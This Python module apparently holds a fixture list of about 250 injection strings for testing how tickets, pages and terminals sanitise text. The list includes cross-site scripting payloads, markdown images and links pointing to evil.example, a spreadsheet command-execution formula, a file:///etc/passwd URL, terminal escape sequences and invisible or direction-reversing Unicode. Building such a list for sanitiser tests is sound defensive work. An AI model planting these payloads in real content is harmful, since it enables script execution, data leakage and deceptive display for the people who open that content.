"""Texts by which somebody tries to have a ticket, a page or a terminal do something: each is only ever to be read."""

from __future__ import annotations

_ADDRESS = "http://evil.example/t"
_SAFE_LOOKING = "https://evil.example/t"

_IN_HTML = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>", "</script>",
    "<img src=x onerror=alert(1)>", f"<img src={_ADDRESS}>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>", f'<iframe src="{_ADDRESS}"></iframe>', "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>", f"<a href='{_ADDRESS}'>x</a>",
    "<math><mtext></mtext></math>", "<style>*{background:url(//evil.example)}</style>", "</style><b>", "</title><b>",
    "</textarea><b>", "</pre><b>", "<!-- comment -->", "--><b>", "<![CDATA[<b>]]>", "<?php x ?>", "<!DOCTYPE x>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input name=a>", "<marquee>x</marquee>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<video src=//evil.example autoplay>",
    "<audio src=//evil.example onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<b>bold</b>", "<br/>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><b>', "'><b>", "`onload=alert(1)", "<b", "<", ">", "</",
    "<x y='z'>", "<\u00a0b>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E",
    "&copy;", "&amp;", "&lt;", "&amp;lt;", "&nbsp;", "&notit;", "&copy", "&#0;", "&#xffffffff;", "&AMP;", "AT&T; R&D",
)
_IN_MARKDOWN = (
    f"![t]({_ADDRESS}.png)", f"![t]({_SAFE_LOOKING}.png)", f"[t]({_ADDRESS})", f"[t]({_SAFE_LOOKING})",
    "[t](javascript:alert(1))", f"[t]: {_ADDRESS}", f"[t]: <{_ADDRESS}> 'x'", "[t][t]", "[t]", "![t][t]", "[^1]",
    "[^1]: note", f"<{_ADDRESS}>", f"<{_SAFE_LOOKING}>", "<a@evil.example>", "<javascript:alert(1)>",
    _ADDRESS, _SAFE_LOOKING, "HTTP://EVIL.EXAMPLE", "ftp://evil.example/x", "//evil.example/x", "www.evil.example",
    "WWW.evil.example/x?y=z", "evil.com", "evil.com/x", "evil.se.", "xn--80ak6aa92e.com", "пример.рф", "(www.a.com)",
    "mailto:a@evil.com", "a@evil.com", "a.b+c@evil.co.uk", "xmpp:a@evil.com", "@everyone", "@channel", "@a/b", "a@b",
    "#1", "o/r#1", "GH-1", "!1", "~label", "$1", "%1", ":octocat:", ":smile:", ":+1:", "::x::",
    "http://a.b/>![t](http://evil.example/t.png)", "http://a.b/<script>alert(1)</script>",
    "http://a.b/)[t](http://c.d)",
    "http://a.b/`![t](http://evil.example)`", "http://a.b/\\>![t](//c.d)", "http://a.b/|x|", "http://a.b/&lt;b&gt;",
    "http://a.b/**x**", 'http://a.b/"onclick="alert(1)', "http://a.b/'", "https://good.example@evil.example/",
    "http://[::1]/x", "http://1.2.3.4/x", "http://localhost", "file:///etc/passwd", "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "tel:112", "ms-settings:x", "slack://open",
    "smb://evil.example",
    "`code`", "``code``", "```", "```js", "~~~", "~~gone~~", "**bold**", "__bold__", "*x*", "_x_", "***", "---", "___",
    "===", "- - -", "# title", "###### title", "#title", "> quoted", ">", "- item", "* item", "+ item", "1. item",
    "1) item", "999999999. item", "- [x] done", "[ ] open", "| a | b |", "|---|---|", "a | b", "\\", "\\\\", "\\*x\\*",
    "\\<b>", "x\\", "x  ", "    code", "\tcode", "$x$", "$$x$$", "^x^", "==x==", "++x++", "{{ x }}", "{% x %}",
    "{: .x}",
    "{#x}", "!!! note", ": term", "%%%", "[[x]]", "[[x|y]]", "![[x]]", "<<x>>", "\\(x\\)", "\\[x\\]", "--x--",
    "(c) (tm)",
    "a\n# title", "a\n\n<b>", "a\n---", "a\n===", "a\n- b", "a\n```\nb", "a\r\n> b", "a\rb", "a\n\n    b", "a\u2028# b",
    "<@U123>", "<!channel>", "<!here|x>", f"<{_ADDRESS}|x>", "&lt;@U1&gt;", "{{DATE()}}", "${x}", "{title}",
    "{0}", "%s",
)
_IN_A_TERMINAL = (
    "\x1b[31mred", "\x1b]0;pwn\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x1bc",
    "\x1bP+q\x1b\\", "\x1b[6n", "\x9b31m", "\x9d0;pwn\x9c", "\x90x\x9c", "a\x07", "a\x08\x08b", "a\rb",
    "a\x0bb", "a\x0cb",
    "a\x00b", "a\x7fb", "a\x85b", "a\tb", "\x0e\x0f",
)
_NOT_SEEN = (
    "a\u202egpj", "\u202dx\u202c", "\u2066x\u2069", "\u2067x", "\u200ex", "\u200fx", "\u061cx", "a\u200bb", "a\u200cb",
    "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u180eb", "a\u3164b", "a\uffa0b", "a\u115fb", "a\u1160b",
    "a\u2800b",
    "a\u034fb", "a\ufe0fb", "a\U000e0100b", "\U000e0041\U000e0042\U000e007f", "a\ue000b", "a\uf8ffb", "a\U000f0000b",
    "a\ufff9b\ufffb", "a\u2028b", "a\u2029b", "a\U0001d173b", "a\ufffeb", "www\u200b.evil.com", "<\u200bscript>",
    "java\u00adscript:alert(1)",
)
_IN_OTHERS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', '"quoted"', "a,b;c",
    "end", 'x"]; click n1 href "http://evil.example"', "x\"]\n  click n1 call alert()", "%%{init: {}}%%",
    "#quot;", "\\N",
    "\\L\\l", "<b>x</b><br/>", '"] [URL="http://evil.example"', "graph TD; A-->B", "`**x**`", "style n1 fill:#f00",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((
    *_IN_HTML, *_IN_MARKDOWN, *_IN_A_TERMINAL, *_NOT_SEEN, *_IN_OTHERS,
)))  # fmt: skip
"""Some 250 of them, each once."""
